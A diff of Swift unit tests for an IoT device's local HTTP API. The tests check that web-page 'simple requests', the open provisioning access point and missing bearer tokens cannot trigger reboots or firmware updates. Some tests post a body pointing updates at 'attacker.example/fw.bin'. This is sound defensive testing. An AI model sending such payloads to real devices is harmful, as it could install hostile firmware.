@@ -41,7 +41,7 @@ final class LocalEndpointTests: XCTestCase {
     func testRebootAnswersFirstThenRestartsAfterTheDelay() {
         for path in ["/reboot", "/restart"] {
             var h = online()
-            let actions = h.send(.httpRequest(id: 4, HTTPRequest(method: .post, path: path)))
+            let actions = h.send(.httpRequest(id: 4, HTTPRequest(method: .post, path: path, headers: [DeviceHarness.json])))
             XCTAssertEqual(actions.response(to: 4)?.status, 200)
             XCTAssertFalse(actions.containsReboot(.software), "the answer must leave before the restart")
             XCTAssertEqual(h.device.reportedState, .rebooting)
@@ -164,5 +164,72 @@ final class LocalEndpointTests: XCTestCase {
         XCTAssertEqual(h.request(.get, "/version")?.status, 200)
         XCTAssertEqual(h.request(.get, "/info")?.json?["state"]?.stringValue, "provisioning")
         XCTAssertEqual(h.request(.get, "/nope")?.status, 302, "in AP mode unknown paths lead to the captive portal")
+    }
+
+    func testJSONBodiesInAnotherContentTypeAre415SoAWebPageCannotStartAnUpdate() {
+        // A page anywhere on the web may POST text/plain, a form or multipart to the device without a
+        // CORS preflight ("simple requests"); application/json needs one, which the device never grants.
+        let body = #"{"url":"http://attacker.example/fw.bin"}"#
+        for type in ["text/plain", "text/plain;charset=UTF-8", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
+                     "application/jsonp", nil] {
+            var h = online()
+            let response = h.request(.post, "/test_update", body: body, headers: type.map { [HTTPHeader("Content-Type", $0)] } ?? [])
+            XCTAssertEqual(response?.status, 415, type ?? "no content type")
+            XCTAssertEqual(response?.json?["error"]?.stringValue, "Content-Type must be application/json", type ?? "no content type")
+            XCTAssertFalse(h.log.contains { if case .startDownload = $0 { return true } else { return false } }, type ?? "none")
+            XCTAssertEqual(h.device.reportedState, .online)
+        }
+        for type in ["application/json", "Application/JSON; charset=utf-8", " application/json ;charset=UTF-8"] {
+            var h = online()
+            XCTAssertEqual(h.request(.post, "/test_update", body: body, headers: [HTTPHeader("content-type", type)])?.status, 202, type)
+        }
+    }
+
+    func testPostsWithoutABodyNeedTheJSONContentTypeToo() {
+        // fetch(url, {method: "POST", mode: "no-cors"}) sends no Content-Type at all, and is a simple request.
+        for path in ["/reboot", "/restart", "/reset_wifi"] {
+            var h = online()
+            XCTAssertEqual(h.request(.post, path, headers: [])?.status, 415, path)
+            XCTAssertEqual(h.request(.post, path, headers: [HTTPHeader("Content-Type", "application/x-www-form-urlencoded")])?.status, 415, path)
+            XCTAssertNil(h.device.nextDeadline.flatMap { $0 <= h.now + .seconds(1) ? $0 : nil }, path + ": no restart promised")
+            XCTAssertNotNil(h.device.nvs.wifiCredentials, path)
+            XCTAssertEqual(h.request(.post, path)?.status, 200, path)
+        }
+    }
+
+    func testDestructiveEndpointsAreNotServedOnTheOpenAccessPoint() {
+        var h = DeviceHarness(config: DeviceHarness.config(wifi: nil))
+        h.send(.powerOn(.powerOn, boot: DeviceHarness.boot))
+        XCTAssertEqual(h.device.reportedState, .provisioning)
+        for path in ["/reboot", "/restart", "/reset_wifi", "/update", "/test_update"] {
+            let response = h.request(.post, path, body: #"{"url":"http://attacker.example/fw.bin"}"#)
+            XCTAssertEqual(response?.status, 403, path)
+            XCTAssertEqual(response?.json?["error"]?.stringValue, "not available on the provisioning access point", path)
+        }
+        XCTAssertNil(h.device.nextDeadline.flatMap { $0 <= h.now + .seconds(1) ? $0 : nil }, "no restart promised")
+        XCTAssertFalse(h.log.contains { if case .startDownload = $0 { return true } else { return false } })
+        XCTAssertEqual(h.request(.get, "/version")?.status, 200, "reading is harmless")
+        XCTAssertEqual(h.device.reportedState, .provisioning)
+    }
+
+    func testAConfiguredTokenIsRequiredByEveryEndpointButVersion() {
+        var config = DeviceHarness.config()
+        config.localAPIToken = "s3cret-token"
+        var h = DeviceHarness(config: config)
+        h.bootOnline()
+        XCTAssertEqual(h.request(.get, "/version")?.status, 200, "discovery stays open")
+        for (method, path) in [(HTTPMethod.get, "/info"), (.get, "/scan"), (.post, "/reboot"), (.post, "/update")] {
+            for auth in [nil, "Bearer wrong-token!", "Bearer s3cret-toke", "Basic s3cret-token", "Bearer s3cret-token "] {
+                var headers = method == .post ? [DeviceHarness.json] : []
+                if let auth { headers.append(HTTPHeader("Authorization", auth)) }
+                let response = h.request(method, path, body: "{}", headers: headers)
+                XCTAssertEqual(response?.status, 401, path + " with " + (auth ?? "no token"))
+                XCTAssertEqual(response?.header("WWW-Authenticate"), "Bearer")
+            }
+        }
+        XCTAssertEqual(h.device.reportedState, .online)
+        let ok = h.request(.get, "/info", headers: [HTTPHeader("authorization", "bearer s3cret-token")])
+        XCTAssertEqual(ok?.status, 200)
+        XCTAssertEqual(h.request(.post, "/restart", headers: [DeviceHarness.json, HTTPHeader("Authorization", "Bearer s3cret-token")])?.status, 200)
     }
 }
